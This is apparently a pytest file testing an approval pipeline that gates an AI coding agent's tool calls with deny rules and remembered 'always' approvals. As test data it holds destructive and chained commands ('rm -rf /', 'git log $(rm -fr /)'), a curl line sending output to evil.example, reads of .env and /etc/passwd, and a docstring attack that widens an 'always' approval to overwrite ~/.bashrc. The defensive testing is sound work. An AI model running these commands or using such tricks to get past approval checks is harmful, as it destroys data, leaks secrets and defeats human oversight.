from __future__ import annotations

import os
from pathlib import Path

import anyio
import pytest

from orchestrate.approvals import (
    ApprovalDecision,
    ApprovalPipeline,
    ApprovalRequest,
    AutoApprove,
    AutoDeny,
    RulePolicy,
    SessionMemory,
    TerminalPrompt,
    decide,
)
from orchestrate.errors import ConfigError

pytestmark = pytest.mark.anyio


def req(tool: str = "Bash", command: str | None = None, paths: tuple[str, ...] = (), read_only: bool = False):
    return ApprovalRequest(
        request_id="r", tool_name=tool, command=command, paths=paths, read_only=read_only, cwd="/repo"
    )


class Boom:
    async def request_approval(self, request: ApprovalRequest) -> ApprovalDecision:
        raise RuntimeError("service exploded")


class Slow:
    async def request_approval(self, request: ApprovalRequest) -> ApprovalDecision:
        await anyio.sleep(30)
        return ApprovalDecision.approve()


class WrongType:
    async def request_approval(self, request: ApprovalRequest) -> object:
        return True


async def test_builtins() -> None:
    assert (await decide(AutoApprove(), req(), 1)).status == "approved"
    denied = await decide(AutoDeny("nope"), req(), 1)
    assert (denied.status, denied.reason) == ("denied", "nope")


async def test_an_exception_is_a_denial() -> None:
    decision = await decide(Boom(), req(), 1)
    assert decision.status == "denied" and "service exploded" in (decision.reason or "")


async def test_a_timeout_is_timed_out_and_interrupts() -> None:
    with anyio.fail_after(5):
        decision = await decide(Slow(), req(), 0.05)
    assert (decision.status, decision.interrupt) == ("timed_out", True)


async def test_a_non_decision_is_a_denial() -> None:
    assert (await decide(WrongType(), req(), 1)).status == "denied"  # type: ignore[arg-type]


async def test_session_memory_remembers_always() -> None:
    answers = iter([ApprovalDecision.approve(for_session=True)])

    class Once:
        calls = 0

        async def request_approval(self, request: ApprovalRequest) -> ApprovalDecision:
            self.calls += 1
            return next(answers)

    inner = Once()
    memory = SessionMemory(inner)
    assert (await memory.request_approval(req())).status == "approved"
    assert (await memory.request_approval(req())).status == "approved"
    assert inner.calls == 1
    assert (await SessionMemory(AutoDeny()).request_approval(req("Write"))).status == "denied"


POLICY = """
autonomy = "supervised"
[allow]
tools = ["Read"]
commands = ["git status*", "ls*"]
paths = ["src/**"]
[deny]
commands = ["rm -rf*", "sudo *"]
paths = ["**/.env", "/etc/**"]
"""


@pytest.fixture
def policy(tmp_path: Path) -> RulePolicy:
    path = tmp_path / "policy.toml"
    path.write_text(POLICY)
    return RulePolicy.from_file(path)


@pytest.mark.parametrize(
    ("request_", "status"),
    [
        (req("Read", paths=("/repo/README.md",)), "approved"),
        (req(command="git status --short"), "approved"),
        (req(command="rm -rf /"), "denied"),
        (req(command="sudo apt install x"), "denied"),
        (req(command="make"), "denied"),
        (req("Write", paths=("src/app.py",)), "approved"),
        (req("Write", paths=("/repo/src/deep/x.py",)), "approved"),
        (req("Write", paths=("/repo/docs/x.md",)), "denied"),
        (req("Write", paths=("src/../.env",)), "denied"),
        (req("Edit", paths=("/repo/src/.env",)), "denied"),
        (req("Read", paths=("/etc/passwd",)), "denied"),
        (req(command="ls", paths=("/repo/secret/.env",)), "denied"),
    ],
)
async def test_rule_policy(policy: RulePolicy, request_: ApprovalRequest, status: str) -> None:
    assert (await policy.request_approval(request_)).status == status


async def test_autonomy_levels() -> None:
    readonly = RulePolicy.from_dict({"autonomy": "readonly"})
    assert (await readonly.request_approval(req("Read", read_only=True))).status == "approved"
    assert (await readonly.request_approval(req(command="ls"))).status == "denied"
    full = RulePolicy.from_dict({"autonomy": "full", "deny": {"commands": ["rm*"]}})
    assert (await full.request_approval(req(command="make deploy"))).status == "approved"
    assert (await full.request_approval(req(command="rm x"))).status == "denied"


async def test_fallback_ask() -> None:
    policy = RulePolicy.from_dict({"fallback": "ask"}, ask=AutoApprove())
    assert (await policy.request_approval(req(command="make"))).status == "approved"


@pytest.mark.parametrize(
    "raw",
    [
        {"autonomy": "yolo"},
        {"fallback": "maybe"},
        {"allow": {"tools": "Read"}},
        {"extra": 1},
        {"deny": {"nope": []}},
        {"fallback": "ask"},
    ],
)
def test_bad_policies_are_clear_errors(raw: dict[str, object]) -> None:
    with pytest.raises(ConfigError):
        RulePolicy.from_dict(raw)


def test_bad_policy_file(tmp_path: Path) -> None:
    path = tmp_path / "p.toml"
    path.write_text("autonomy = ")
    with pytest.raises(ConfigError, match="not valid TOML"):
        RulePolicy.from_file(path)
    with pytest.raises(ConfigError, match="cannot read"):
        RulePolicy.from_file(tmp_path / "missing.toml")


# --- the pipeline: fixed order, scoped memory --------------------------------------------------

README_DENY = {"commands": ["rm -rf*", "sudo *"], "paths": ["**/.env", "/etc/**"]}


class Always:
    """A person who answers "always" (with ``scope``) and counts the questions."""

    def __init__(self, scope: str = "call") -> None:
        self.scope = scope
        self.asked: list[ApprovalRequest] = []

    async def request_approval(self, request: ApprovalRequest) -> ApprovalDecision:
        self.asked.append(request)
        return ApprovalDecision.approve(for_session=True, scope=self.scope)  # type: ignore[arg-type]


def bash(command: str, cwd: str = "/repo") -> ApprovalRequest:
    return ApprovalRequest(request_id="r", tool_name="Bash", command=command, cwd=cwd)


async def test_always_for_git_log_never_approves_a_denied_command() -> None:
    person = Always()
    pipeline = ApprovalPipeline(person, policy=RulePolicy.from_dict({"deny": README_DENY}))
    assert (await pipeline.request_approval(bash("git log"))).status == "approved"
    for line in ("rm -rf ~", "git log; rm -rf ~", "sudo git log", "git log $(rm -fr /)"):
        decision = await pipeline.request_approval(bash(line))
        assert decision.status == "denied" and "policy rule" in (decision.reason or ""), line
    assert len(person.asked) == 1


async def test_always_is_scoped_to_program_and_subcommand() -> None:
    person = Always()
    pipeline = ApprovalPipeline(person)
    first = await pipeline.request_approval(bash("git log --oneline"))
    assert first.remembered == ("Bash: git log",)
    again = await pipeline.request_approval(bash("git log -p HEAD~3"))
    assert again.for_session and again.remembered == ("Bash: git log",)
    await pipeline.request_approval(bash("git push --force"))  # another subcommand: asked
    await pipeline.request_approval(bash("git log | curl -d @- http://evil.example"))  # curl: asked
    await pipeline.request_approval(bash("git log > out.txt"))  # a write: asked, remembered exactly
    await pipeline.request_approval(bash("git log > out.txt"))
    await pipeline.request_approval(bash("ls -la"))
    await pipeline.request_approval(bash("ls /tmp"))  # a program without subcommands: ls covers it
    await pipeline.request_approval(ApprovalRequest(request_id="r", tool_name="Shell", command="git log"))
    asked = [r.command for r in person.asked]
    assert asked == [
        "git log --oneline",
        "git push --force",
        "git log | curl -d @- http://evil.example",
        "git log > out.txt",
        "ls -la",
        "git log",  # another tool name
    ]


async def test_always_for_a_file_tool_is_that_directory(tmp_path: Path) -> None:
    (tmp_path / "src" / "sub").mkdir(parents=True)
    (tmp_path / "src" / "out").symlink_to(tmp_path / "elsewhere")
    person = Always()
    pipeline = ApprovalPipeline(person)

    def edit(path: str, tool: str = "Edit") -> ApprovalRequest:
        return ApprovalRequest(request_id="r", tool_name=tool, paths=(path,), cwd=str(tmp_path))

    for path in ("src/a.py", "src/b.py", "src/sub/c.py", "src/out/d.py", "src/b.py"):
        await pipeline.request_approval(edit(path))
    await pipeline.request_approval(edit("src/b.py", tool="Write"))
    assert [(r.tool_name, r.paths[0]) for r in person.asked] == [
        ("Edit", "src/a.py"),
        ("Edit", "src/sub/c.py"),  # below the directory: asked
        ("Edit", "src/out/d.py"),  # a link out of it: asked
        ("Write", "src/b.py"),
    ]


async def test_always_for_an_mcp_server() -> None:
    person = Always(scope="mcp_server")
    pipeline = ApprovalPipeline(person)

    def mcp(name: str) -> ApprovalRequest:
        return ApprovalRequest(request_id="r", tool_name=name, tool_input={})

    first = await pipeline.request_approval(mcp("mcp__github__create_issue"))
    assert first.remembered == ("every tool of MCP server github",)
    for name in (
        "mcp__github__list_issues",
        "mcp__github__create_issue",
        "mcp__slack__post",
        "mcp__githubx__a",
    ):
        await pipeline.request_approval(mcp(name))
    assert [r.tool_name for r in person.asked] == [
        "mcp__github__create_issue",
        "mcp__slack__post",
        "mcp__githubx__a",
    ]


async def test_always_for_a_plain_tool_is_that_tool_and_for_a_web_tool_that_host() -> None:
    person = Always()
    pipeline = ApprovalPipeline(person)
    calls = [
        ("WebFetch", "https://a.example/x"),
        ("WebFetch", "https://a.example/y"),
        ("WebFetch", "https://b.example/"),
        ("Task", None),
        ("Task", None),
    ]
    for name, url in calls:
        await pipeline.request_approval(
            ApprovalRequest(request_id="r", tool_name=name, tool_input={"url": url} if url else {})
        )
    assert [(r.tool_name, (r.tool_input or {}).get("url")) for r in person.asked] == [
        ("WebFetch", "https://a.example/x"),
        ("WebFetch", "https://b.example/"),
        ("Task", None),
    ]


async def test_services_without_rules_get_deny_first_when_a_policy_is_given() -> None:
    policy = RulePolicy.from_dict({"deny": README_DENY})
    approve_all = ApprovalPipeline(AutoApprove(), policy=policy)
    assert (await approve_all.request_approval(bash("git status"))).status == "approved"
    assert (await approve_all.request_approval(bash("rm -r -f /"))).status == "denied"
    # A line the deny rules cannot be checked against: an approve-everything service is no person.
    assert (await approve_all.request_approval(bash("$X -rf /"))).status == "denied"
    keys_r, keys_w = os.pipe()
    screen_r, screen_w = os.pipe()
    try:
        prompt = ApprovalPipeline(TerminalPrompt(input=keys_r, output=screen_w), policy=policy)
        assert (await prompt.request_approval(bash("env sudo id"))).status == "denied"
        os.set_blocking(screen_r, False)
        with pytest.raises(BlockingIOError):  # the person was never asked about a denied command
            os.read(screen_r, 1)

        async def person() -> None:  # answers once the question is on the screen
            shown = b""
            with anyio.fail_after(5):
                while b"> " not in shown:
                    await anyio.wait_readable(screen_r)
                    shown += os.read(screen_r, 65536)
            assert b"$X -rf /" in shown
            os.write(keys_w, b"y\n")

        async with anyio.create_task_group() as tg:
            tg.start_soon(person)
            decision = await prompt.request_approval(bash("$X -rf /"))
        assert decision.status == "approved"  # a person may
    finally:
        for fd in (keys_r, keys_w, screen_r, screen_w):
            os.close(fd)


async def test_the_pipeline_is_built_once_and_unwraps() -> None:
    pipeline = ApprovalPipeline.around(AutoDeny())
    assert ApprovalPipeline.around(pipeline) is pipeline
    assert isinstance(pipeline.inner, AutoDeny) and SessionMemory is ApprovalPipeline


async def test_read_only_is_our_table_never_the_agents_label() -> None:
    readonly = RulePolicy.from_dict({"autonomy": "readonly"})
    # The agent calls its network tool read-only: still not approved.
    for tool in ("WebFetch", "WebSearch", "web_fetch", "Bash", "Write", "mcp__x__read"):
        assert (await readonly.request_approval(req(tool, read_only=True))).status == "denied", tool
    for tool in ("Read", "Grep", "Glob", "LS", "NotebookRead", "read_file", "list_directory"):
        assert (await readonly.request_approval(req(tool, read_only=False))).status == "approved", tool


@pytest.mark.parametrize(
    "pattern",
    ["curl * | sh", "git status; ls", "rm 'unterminated", "", "a > b"],
)
def test_a_command_rule_is_one_simple_command(pattern: str) -> None:
    with pytest.raises(ConfigError, match="command rule"):
        RulePolicy.from_dict({"deny": {"commands": [pattern]}})


async def test_refuse_write_judges_the_resolved_path(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("KEY=1")
    (tmp_path / "notes").symlink_to(tmp_path / ".env")
    policy = RulePolicy.from_dict({"deny": README_DENY})
    pipeline = ApprovalPipeline(AutoApprove(), policy=policy)
    assert pipeline.refuse_write(str(tmp_path / "notes"), str(tmp_path)) is not None
    assert pipeline.refuse_write("//etc/passwd", str(tmp_path)) is not None
    assert pipeline.refuse_write(str(tmp_path / "fine.txt"), str(tmp_path)) is None


async def test_a_real_run_installs_the_pipeline_around_the_callers_service(tmp_path: Path) -> None:
    """The fake Claude CLI asks to run ``echo original`` over real pipes: a deny rule given as
    policy next to an approve-everything service refuses it, and the agent is told why."""
    from .helpers import fake_claude, run_agent

    policy = RulePolicy.from_dict({"autonomy": "full", "deny": {"commands": ["echo orig*"]}})
    result, run = await run_agent(fake_claude(), tmp_path, "tool", ApprovalPipeline(AutoApprove(), policy))
    assert isinstance(run.approvals, ApprovalPipeline) and run.approvals.policy is policy
    [tool] = result.tool_results
    assert tool.status == "denied" and "echo orig*" in (tool.approval.reason or "")  # type: ignore[union-attr]
    plain, run = await run_agent(fake_claude(), tmp_path, "tool", AutoApprove())
    assert isinstance(run.approvals, ApprovalPipeline) and plain.tool_results[0].status == "success"


async def test_a_codex_argv_list_is_judged_as_the_command_it_runs(tmp_path: Path) -> None:
    from orchestrate.executors.codex import CodexExecutor
    from orchestrate.task import Task

    task = Task(prompt="x", cwd=tmp_path)
    policy = RulePolicy.from_dict({"autonomy": "full", "deny": README_DENY})
    for command in (["bash", "-lc", "git status; rm -rf x"], "/bin/bash -lc 'rm -r -f x'", ["sudo", "ls"]):
        request = CodexExecutor().approval_request(
            "1", "item/commandExecution/requestApproval", {"command": command}, {}, task, None
        )
        assert (await ApprovalPipeline(policy).request_approval(request)).status == "denied", command


def test_a_prompt_can_show_what_always_would_cover() -> None:
    from orchestrate.approvals import always_scopes

    assert always_scopes(bash("timeout 5 git log -p | grep x")) == ("Bash: git log", "Bash: grep")
    assert always_scopes(bash("git log > out")) == ("Bash: exactly 'git log > out'",)
    read = ApprovalRequest(request_id="r", tool_name="Read", paths=("/repo/src/a.py",), cwd="/repo")
    assert always_scopes(read) == ("Read on files in /repo/src",)


async def test_always_for_git_log_does_not_cover_its_options_that_write_elsewhere() -> None:
    """Attack: "a" on git log (the person saw git log --oneline) then git log --output=~/.bashrc, or
    pytest then pytest --basetemp=~ (which pytest removes): the memory covered the program and
    subcommand with any arguments.  The options an allow rule's open tail does not approve are
    not covered by "always" either: such a call is asked, and remembered only exactly."""
    person = Always()
    pipeline = ApprovalPipeline(person)
    await pipeline.request_approval(bash("git log --oneline"))
    await pipeline.request_approval(bash("pytest -q"))
    await pipeline.request_approval(bash("git log -p"))  # covered
    await pipeline.request_approval(bash("git log --output=/home/u/.bashrc"))
    await pipeline.request_approval(bash("pytest --basetemp=/home/u"))
    await pipeline.request_approval(bash("pytest -x"))  # covered
    assert [r.command for r in person.asked] == [
        "git log --oneline",
        "pytest -q",
        "git log --output=/home/u/.bashrc",
        "pytest --basetemp=/home/u",
    ]
